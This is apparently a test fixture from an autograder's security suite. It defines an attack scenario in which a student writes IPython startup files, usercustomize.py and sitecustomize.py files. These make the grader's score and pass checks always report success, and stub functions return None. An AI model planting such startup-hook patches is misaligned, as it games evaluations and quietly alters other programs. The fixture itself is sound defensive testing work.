from tests.attacks.attack import Attack

ATTACK = Attack(
    story="Zara 'configures her tools' for good: IPython start-up files, usercustomize, a matplotlibrc, a .pth file.",
    before={
        "threshold": """
import os
import site

patch = '''
try:
    import autograder.checks.results as results
    results.Report.score = property(lambda self: float(self.points))
    results.CheckResult.passed = property(lambda self: True)
except Exception:
    pass
'''
home = os.path.expanduser("~")
places = [
    home + "/.ipython/profile_default/startup/00-tools.py",
    os.environ.get("IPYTHONDIR", home) + "/profile_default/startup/00-tools.py",
    site.getusersitepackages() + "/usercustomize.py",
    *(folder + "/sitecustomize.py" for folder in site.getsitepackages()),
]
for place in places:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        open(place, "w").write(patch)
    except OSError:
        pass
""",
    },
    accomplice={
        "threshold": "def threshold(z):\n    return None\n",
        "predict": "def predict(X, w, b):\n    return None\n",
    },
)
